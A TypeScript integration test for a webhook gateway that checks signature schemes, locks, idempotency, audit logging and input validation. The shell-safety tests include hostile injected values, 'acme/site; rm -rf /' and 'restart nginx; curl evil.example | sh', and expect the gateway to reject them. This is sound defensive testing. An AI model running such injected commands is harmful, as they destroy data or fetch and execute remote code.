// Webhook triggers end to end on Node: deliveries signed the way GitHub, Standard Webhooks and Stripe sign
// them (and RFC 9421 for our own callers) → POST /v1/hooks/<name> → conditions, inputs, policy, locks →
// a job the collector fills in → the run's locks released and its on_complete writes made. Two gateways
// share one federation, so that they race for the same locks.
import { randomUUID } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { NodeGatewaySettings } from "../../../functions/gateway-env.ts";
import { type RunningGateway, startGateway } from "../../../functions/node.ts";
import { type RunningCollector, startCollector } from "../../../functions/result-collector.ts";
import { DataStore, DEFAULT_DATA_BUCKET, Locks } from "../../../lib/data/mod.ts";
import { gatewayConfigFrom } from "../../../lib/gateway/config.ts";
import { PROBLEM_BASE } from "../../../lib/gateway/problems.ts";
import type { AuditEvent } from "../../../lib/security/http/audit.ts";
import { generateHttpKey, type SigningKey, signHttpRequest } from "../../../lib/security/http/mod.ts";
import { signGithub, signSlack, signStandardV1, signStripe } from "../../../lib/security/webhooks/mod.ts";
import type { NatsBus } from "../../../lib/transport/bus.ts";
import { NatsKvBucket } from "../../../lib/transport/kv-bucket.ts";
import { connectNats } from "../../../lib/transport/node.ts";
import { testPki } from "../../support/pki.ts";
import { collectorConfig, memoryLog, TEST_SEAL_KEY } from "../results/support.ts";
import {
  type CallbackReceiver,
  CLUSTER,
  type Federation,
  signedInit,
  startCallbackReceiver,
  startFederation,
  type TestKeys,
  testKeys,
} from "./support.ts";

const PUBLIC = "https://hooks.example.com";
const GITHUB_SECRET = "It's a Secret to Everybody, but longer";
const STANDARD_SECRET = `whsec_${Buffer.from("standard webhooks test secret!!").toString("base64")}`;
const STRIPE_SECRET = "whsec_stripe_endpoint_secret_for_tests";
const SLACK_SECRET = "8f742231b10e8888abcd99yyyzzz85a5";
const CALLBACK_SECRET = `whsec_${Buffer.from("where paid runs report").toString("base64")}`;
const SHA = "4f1b1e0c6a1f9b7d5c3e2a1908f7e6d5c4b3a291";

let federation: Federation;
let keys: TestKeys;
let reader: SigningKey;
let collector: RunningCollector;
let gateway: RunningGateway;
let second: RunningGateway;
let side: NatsBus;
let data: DataStore;
let receiver: CallbackReceiver;
const audit: AuditEvent[] = [];

/** The nodes that run the demo agent, which every trigger here uses. */
const identities = () =>
  federation.fleet
    .filter((node) => node.agents.includes("demo"))
    .map((node) => node.identity)
    .sort();

function triggersYaml(nodes: string[], callbackUrl: string): string {
  const policy = `{ clusters: [${CLUSTER}], collectives: ["*"], agents: [demo], actions: ["demo#*"] }`;
  return `
triggers:
  - name: deploy
    verify: { scheme: github, secrets_env: [HOOKS_TEST_GITHUB_SECRET] }
    policy: ${policy}
    when:
      - header: x-github-event
        equals: push
      - path: ref
        equals: refs/heads/main
    inputs:
      sha: { from: payload.after, pattern: "^[0-9a-f]{40}$" }
      repo: { from: payload.repository.full_name, shellsafe: true }
      environment: { from: data.deploy/env, default: production, enum: [production, staging] }
    request:
      cluster: ${CLUSTER}
      agent: demo
      action: echo
      data: { sha: "\${inputs.sha}", repo: "\${inputs.repo}", environment: "\${inputs.environment}" }
      nodes: [${nodes.join(", ")}]
      timeout: 10
    locks: [deploy]
    lock_timeout: 0.5
    on_complete:
      - put: deploy/last-sha
        value: "\${inputs.sha}"

  - name: slow
    verify: { scheme: standard-webhooks, secrets_env: [HOOKS_TEST_STANDARD_SECRET] }
    policy: ${policy}
    inputs:
      seconds: { from: payload.seconds, type: number, minimum: 0, maximum: 5 }
    request:
      cluster: ${CLUSTER}
      agent: demo
      action: sleep
      data: { seconds: "\${inputs.seconds}" }
      nodes: [${nodes[0]}]
      timeout: 10
    locks: [deploy]
    lock_timeout: 0.5

  - name: paid
    verify: { scheme: stripe, secrets_env: [HOOKS_TEST_STRIPE_SECRET] }
    policy: ${policy}
    when:
      - path: type
        equals: payment_intent.succeeded
    inputs:
      customer: { from: payload.data.object.customer, pattern: "^cus_[A-Za-z0-9]+$" }
    request:
      cluster: ${CLUSTER}
      agent: demo
      action: echo
      data: { customer: "\${inputs.customer}" }
      nodes: [${nodes[1]}]
    locks: []
    respond: { status: 200, body: { received: true } }
    callback: { kind: url, url: "${callbackUrl}", secret: "${CALLBACK_SECRET}" }

  - name: chatops
    verify: { scheme: slack, secrets_env: [HOOKS_TEST_SLACK_SECRET] }
    policy: ${policy}
    when:
      - path: command
        equals: /choria
    inputs:
      text: { from: payload.text, max_length: 200, shellsafe: true }
      user: { from: payload.user_name, pattern: "^[a-z0-9._-]+$" }
    request:
      cluster: ${CLUSTER}
      agent: demo
      action: echo
      data: { said: "\${inputs.text}", by: "\${inputs.user}" }
      nodes: [${nodes[0]}]
    locks: []
    respond: { status: 200, body: { response_type: ephemeral, text: "On it." } }

  - name: ours
    verify: { scheme: rfc9421, keys: [admin] }
    policy: ${policy}
    inputs:
      message: { from: payload.message, max_length: 64 }
    request:
      cluster: ${CLUSTER}
      agent: demo
      action: echo
      data: { message: "\${inputs.message}" }
      nodes: [${nodes[2]}]
    locks: []
`;
}

async function settings(): Promise<NodeGatewaySettings> {
  const pki = await testPki();
  const config = gatewayConfigFrom({
    clusters: { [CLUSTER]: ["mcollective"] },
    publicUrl: PUBLIC,
    callbackSealKey: TEST_SEAL_KEY,
  });
  if (!config.ok) throw new Error(config.error);
  const readerKey = await generateHttpKey({
    id: "reader",
    caller: "audit",
    scheme: "ed25519",
    policy: {
      clusters: [CLUSTER],
      collectives: ["*"],
      agents: ["demo"],
      actions: ["demo#*"],
      readJobs: "allowed",
    },
  });
  reader = { id: "reader", scheme: "ed25519", privateKey: readerKey.keyFile.privateKey! };
  const document = JSON.parse(keys.json) as { keys: unknown[] };
  return {
    config: config.config,
    listen: { host: "127.0.0.1", port: 0 },
    natsServers: [federation.federation.url],
    natsAuth: { type: "none" },
    certPem: pki.gateway.certPem,
    keyPem: pki.gateway.keyPem,
    keysJson: JSON.stringify({ keys: [...document.keys, readerKey.config] }),
    jobs: true,
    triggers: { text: triggersYaml(identities(), receiver.url), filename: "hooks.yaml" },
    readyFile: undefined,
  };
}

beforeAll(async () => {
  Object.assign(process.env, {
    HOOKS_TEST_GITHUB_SECRET: GITHUB_SECRET,
    HOOKS_TEST_STANDARD_SECRET: STANDARD_SECRET,
    HOOKS_TEST_STRIPE_SECRET: STRIPE_SECRET,
    HOOKS_TEST_SLACK_SECRET: SLACK_SECRET,
  });
  [federation, keys, receiver] = await Promise.all([
    startFederation(8, { jetstream: true }),
    testKeys(),
    startCallbackReceiver(),
  ]);
  collector = await startCollector(collectorConfig(federation.federation), { log: memoryLog() });
  const shared = await settings();
  const options = { log: () => {}, audit: (event: AuditEvent) => audit.push(event) };
  [gateway, second] = await Promise.all([startGateway(shared, options), startGateway(shared, options)]);
  side = await connectNats({ servers: federation.federation.url, name: "hooks-test" });
  data = new DataStore(await NatsKvBucket.open(side.connection, { name: DEFAULT_DATA_BUCKET, ttlMs: 0 }));
});

afterAll(async () => {
  await Promise.allSettled([gateway?.close(), second?.close()]);
  await side?.close();
  await collector?.stop();
  await federation?.stop();
  await receiver?.close();
});

function push(ref: string, sha = SHA, repo = "acme/site") {
  return JSON.stringify({ ref, after: sha, repository: { full_name: repo }, pusher: { name: "octocat" } });
}

async function github(
  body: string,
  options: { event?: string; delivery?: string; target?: RunningGateway } = {},
) {
  return fetch(`${(options.target ?? gateway).url}/v1/hooks/deploy`, {
    method: "POST",
    headers: {
      "content-type": "application/json",
      "x-github-event": options.event ?? "push",
      "x-github-delivery": options.delivery ?? randomUUID(),
      "x-hub-signature-256": await signGithub(GITHUB_SECRET, body),
    },
    body,
  });
}

async function standard(seconds: number, target: RunningGateway = gateway) {
  const id = `msg_${randomUUID()}`;
  const timestamp = Math.floor(Date.now() / 1000);
  const body = JSON.stringify({ type: "sleep.requested", seconds });
  return fetch(`${target.url}/v1/hooks/slow`, {
    method: "POST",
    headers: {
      "content-type": "application/json",
      "webhook-id": id,
      "webhook-timestamp": String(timestamp),
      "webhook-signature": await signStandardV1(STANDARD_SECRET, id, timestamp, body),
    },
    body,
  });
}

interface JobAnswer {
  job: {
    id: string;
    state: string;
    caller: string;
    counts: Record<string, number>;
    trigger: Record<string, string> | null;
    effects: { locks: string[]; done: boolean } | null;
  };
  results: { identity: string; status: string; data: Record<string, unknown> }[];
}

async function readJob(location: string): Promise<JobAnswer> {
  const headers = await signHttpRequest({
    method: "GET",
    url: `${PUBLIC}${location}`,
    headers: {},
    key: reader,
  });
  const response = await fetch(`${gateway.url}${location}`, { headers });
  expect(response.status).toBe(200);
  return (await response.json()) as JobAnswer;
}

/** The job once it has ended and its effects are done (locks released, writes made). */
async function finishedJob(location: string): Promise<JobAnswer> {
  const deadline = Date.now() + 15_000;
  for (;;) {
    const answer = await readJob(location);
    if (answer.job.state !== "running" && (answer.job.effects === null || answer.job.effects.done))
      return answer;
    if (Date.now() > deadline) throw new Error(`job not finished: ${JSON.stringify(answer.job)}`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

const problemType = async (response: Response) => ((await response.json()) as { type: string }).type;

describe("webhook triggers through the Node gateway", () => {
  it("runs a GitHub push to main as a job that records its delivery, then writes on_complete and frees its lock", async () => {
    await data.put("deploy/env", "staging");
    const delivery = randomUUID();
    const response = await github(push("refs/heads/main"), { delivery });
    expect(response.status).toBe(202);
    expect(response.headers.get("preference-applied")).toBeNull();
    const location = response.headers.get("location")!;
    const answer = await finishedJob(location);
    expect(answer.job).toMatchObject({
      state: "complete",
      caller: "hook:deploy",
      trigger: { trigger: "deploy", delivery_id: delivery, sender: "github", event: "push" },
      effects: { locks: ["deploy"], done: true },
    });
    expect(answer.results.map((r) => r.identity).sort()).toEqual(identities());
    expect(answer.results[0]!.data).toMatchObject({ sha: SHA, repo: "acme/site", environment: "staging" });
    expect((await data.get("deploy/last-sha"))?.value).toBe(SHA);
    expect((await new Locks(data).inspect("deploy"))?.expired ?? true).toBe(true);
    const accepted = audit.find((e) => e.delivery_id === delivery && e.decision === "accepted");
    expect(accepted).toMatchObject({
      trigger: "deploy",
      scheme: "github",
      caller: "hook:deploy",
      status: 202,
    });
  });

  it("answers a repeated delivery id with its first job and sends nothing again", async () => {
    const delivery = randomUUID();
    const body = push("refs/heads/main");
    const first = await github(body, { delivery });
    expect(first.status).toBe(202);
    const location = first.headers.get("location")!;
    await finishedJob(location);
    const received = federation.nodes.stats.received;
    const again = await github(body, { delivery, target: second });
    expect(again.status).toBe(202);
    expect(again.headers.get("location")).toBe(location);
    const altered = await github(push("refs/heads/main", "b".repeat(40)), { delivery });
    expect(altered.status).toBe(422);
    expect(await altered.json()).toMatchObject({
      type: `${PROBLEM_BASE}idempotency-conflict`,
      job_id: location.split("/").at(-1),
    });
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(federation.nodes.stats.received).toBe(received);
  });

  it("skips deliveries whose conditions do not hold, with the reason", async () => {
    audit.length = 0;
    const branch = await github(push("refs/heads/feature-of-someone"));
    expect(branch.status).toBe(200);
    expect(await branch.json()).toMatchObject({ skipped: true, reason: expect.stringContaining("ref") });
    // The audit line names the condition and its field, never the value the delivery carried.
    const skipped = audit.find((e) => e.decision === "skipped")!;
    expect(skipped.detail).toContain("path ref");
    expect(skipped.detail).not.toContain("feature-of-someone");
    const ping = await github(JSON.stringify({ zen: "Keep it logically awesome." }), { event: "ping" });
    expect(ping.status).toBe(200);
    expect(audit.filter((e) => e.decision === "skipped").length).toBeGreaterThanOrEqual(2);
  });

  it("refuses inputs that fail their checks, shell-unsafe ones included, naming the input", async () => {
    audit.length = 0;
    const badSha = await github(push("refs/heads/main", "not-a-sha-but-a-secret"));
    expect(badSha.status).toBe(422);
    const doc = (await badSha.json()) as { type: string; errors: { field: string }[] };
    expect(doc.type).toBe(`${PROBLEM_BASE}invalid-input`);
    expect(doc.errors.map((e) => e.field)).toEqual(["inputs.sha"]);
    expect(audit).toEqual([expect.objectContaining({ reason: "invalid-input" })]);
    expect(audit[0]!.detail).toContain("inputs.sha");
    expect(audit[0]!.detail).not.toContain("not-a-sha-but-a-secret");
    const unsafe = await github(push("refs/heads/main", SHA, "acme/site; rm -rf /"));
    expect(unsafe.status).toBe(422);
    expect(((await unsafe.json()) as { errors: { field: string }[] }).errors[0]!.field).toBe("inputs.repo");
  });

  it("refuses a delivery signed with another secret, or not signed, before reading it", async () => {
    const body = push("refs/heads/main");
    const forged = await fetch(`${gateway.url}/v1/hooks/deploy`, {
      method: "POST",
      headers: {
        "content-type": "application/json",
        "x-github-event": "push",
        "x-github-delivery": randomUUID(),
        "x-hub-signature-256": await signGithub("another secret entirely", body),
      },
      body,
    });
    expect(forged.status).toBe(401);
    expect(await problemType(forged)).toBe(`${PROBLEM_BASE}bad-signature`);
    const unsigned = await fetch(`${gateway.url}/v1/hooks/deploy`, {
      method: "POST",
      headers: { "content-type": "application/json", "x-github-event": "push" },
      body,
    });
    expect(unsigned.status).toBe(401);
    expect(await problemType(unsigned)).toBe(`${PROBLEM_BASE}missing-credentials`);
    const huge = await github(push("refs/heads/main").replace("octocat", "x".repeat(1024 * 1024)));
    expect(huge.status).toBe(413);
    expect(await problemType(huge)).toBe(`${PROBLEM_BASE}payload-too-large`);
    audit.length = 0;
    const signedBody = push("refs/heads/main");
    const text = await fetch(`${gateway.url}/v1/hooks/deploy`, {
      method: "POST",
      headers: {
        "content-type": "text/x-private-token-abc123",
        "x-github-event": "push",
        "x-github-delivery": randomUUID(),
        "x-hub-signature-256": await signGithub(GITHUB_SECRET, signedBody),
      },
      body: signedBody,
    });
    expect(text.status).toBe(415);
    expect(audit).toEqual([expect.objectContaining({ reason: "unsupported-payload" })]);
    expect(audit[0]!.detail).toContain("content type");
    expect(audit[0]!.detail).not.toContain("abc123");
    const unknown = await fetch(`${gateway.url}/v1/hooks/nope`, { method: "POST", body: "{}" });
    expect(unknown.status).toBe(404);
    expect(await problemType(unknown)).toBe(`${PROBLEM_BASE}unknown-trigger`);
  });

  it("refuses a delivery nested deeper than 64 levels as invalid-body, before anything runs", async () => {
    audit.length = 0;
    const received = federation.nodes.stats.received;
    const deep = push("refs/heads/main").replace(
      '"pusher":',
      `"nested":${"[".repeat(5000)}${"]".repeat(5000)},"pusher":`,
    );
    const response = await github(deep);
    expect(response.status).toBe(400);
    const doc = (await response.json()) as { type: string; detail: string };
    expect(doc.type).toBe(`${PROBLEM_BASE}invalid-body`);
    expect(doc.detail).toContain("deeper than 64 levels");
    expect(audit).toEqual([
      expect.objectContaining({
        decision: "refused",
        reason: "invalid-body",
        trigger: "deploy",
        scheme: "github",
      }),
    ]);
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(federation.nodes.stats.received).toBe(received);
  });

  it("holds a run's lock until its job ends: another trigger waiting on it gets lock-timeout, then runs", async () => {
    const slow = await standard(1.5);
    expect(slow.status).toBe(202);
    const blocked = await github(push("refs/heads/main"));
    expect(blocked.status).toBe(409);
    const doc = (await blocked.json()) as { type: string; lock: string; detail: string };
    expect(doc).toMatchObject({ type: `${PROBLEM_BASE}lock-timeout`, lock: "deploy" });
    expect(doc.detail).toContain("slow/");
    await finishedJob(slow.headers.get("location")!);
    const after = await github(push("refs/heads/main"));
    expect(after.status).toBe(202);
    await finishedJob(after.headers.get("location")!);
  });

  it("frees a run's lock when its job is cancelled", async () => {
    const slow = await standard(5);
    expect(slow.status).toBe(202);
    const location = slow.headers.get("location")!;
    const headers = await signHttpRequest({
      method: "DELETE",
      url: `${PUBLIC}${location}`,
      headers: {},
      key: reader,
    });
    const cancelled = await fetch(`${gateway.url}${location}`, { method: "DELETE", headers });
    expect(cancelled.status).toBe(200);
    const answer = await finishedJob(location);
    expect(answer.job).toMatchObject({ state: "cancelled", effects: { locks: ["deploy"], done: true } });
    const next = await github(push("refs/heads/main"));
    expect(next.status).toBe(202);
    await finishedJob(next.headers.get("location")!);
  });

  it("lets exactly one of two gateways take a lock both want at the same moment", async () => {
    const [a, b] = await Promise.all([standard(1, gateway), standard(1, second)]);
    const statuses = [a.status, b.status].sort();
    expect(statuses).toEqual([202, 409]);
    const winner = a.status === 202 ? a : b;
    await finishedJob(winner.headers.get("location")!);
  });

  it("answers a trigger's own response, with the job's Location, for a Stripe event", async () => {
    const timestamp = Math.floor(Date.now() / 1000);
    const body = JSON.stringify({
      id: `evt_${randomUUID().replaceAll("-", "")}`,
      type: "payment_intent.succeeded",
      data: { object: { id: "pi_1", customer: "cus_Q1w2E3r4", amount: 2000, currency: "eur" } },
    });
    const response = await fetch(`${gateway.url}/v1/hooks/paid`, {
      method: "POST",
      headers: {
        "content-type": "application/json",
        "stripe-signature": await signStripe(STRIPE_SECRET, timestamp, body),
      },
      body,
    });
    expect(response.status).toBe(200);
    expect(await response.json()).toEqual({ received: true });
    const answer = await finishedJob(response.headers.get("location")!);
    expect(answer.job.trigger).toMatchObject({
      trigger: "paid",
      sender: "stripe",
      event: "payment_intent.succeeded",
    });
    expect(answer.results[0]!.data).toMatchObject({ customer: "cus_Q1w2E3r4" });
    const reported = await receiver.deliveriesFor(answer.job.id);
    expect(reported).toHaveLength(1);
    expect(JSON.parse(reported[0]!.body)).toMatchObject({
      data: { id: answer.job.id, state: "complete", trigger: { trigger: "paid" } },
    });
  });

  it("answers a Slack slash command (a signed form) at once, and runs it with its text checked", async () => {
    const post = async (text: string) => {
      const timestamp = Math.floor(Date.now() / 1000);
      const body = new URLSearchParams({
        team_id: "T0001",
        user_name: "ada",
        command: "/choria",
        text,
        trigger_id: `${Date.now()}.${Math.random()}`,
      }).toString();
      return fetch(`${gateway.url}/v1/hooks/chatops`, {
        method: "POST",
        headers: {
          "content-type": "application/x-www-form-urlencoded",
          "x-slack-request-timestamp": String(timestamp),
          "x-slack-signature": await signSlack(SLACK_SECRET, timestamp, body),
        },
        body,
      });
    };
    const response = await post("restart nginx please");
    expect(response.status).toBe(200);
    expect(await response.json()).toEqual({ response_type: "ephemeral", text: "On it." });
    const answer = await finishedJob(response.headers.get("location")!);
    expect(answer.job.trigger).toMatchObject({ trigger: "chatops", sender: "slack", event: "/choria" });
    expect(answer.results[0]!.data).toMatchObject({ said: "restart nginx please", by: "ada" });
    const unsafe = await post("restart nginx; curl evil.example | sh");
    expect(unsafe.status).toBe(422);
  });

  it("takes RFC 9421 requests from the keys the trigger names, and refuses other keys", async () => {
    audit.length = 0;
    const url = `${PUBLIC}/v1/hooks/ours`;
    const ok = await fetch(
      `${gateway.url}/v1/hooks/ours`,
      await signedInit(url, { message: "hello" }, keys.admin),
    );
    expect(ok.status).toBe(202);
    const answer = await finishedJob(ok.headers.get("location")!);
    expect(answer.results[0]!.data).toMatchObject({ message: "hello" });
    const other = await fetch(
      `${gateway.url}/v1/hooks/ours`,
      await signedInit(url, { message: "hi" }, keys.narrow),
    );
    expect(other.status).toBe(403);
    // Both audit lines name the key that signed.
    expect(audit.filter((e) => e.trigger === "ours")).toEqual([
      expect.objectContaining({ decision: "accepted", key: "admin", caller: "hook:ours", scheme: "rfc9421" }),
      expect.objectContaining({ decision: "refused", reason: "forbidden", key: "narrow" }),
    ]);
  });
});
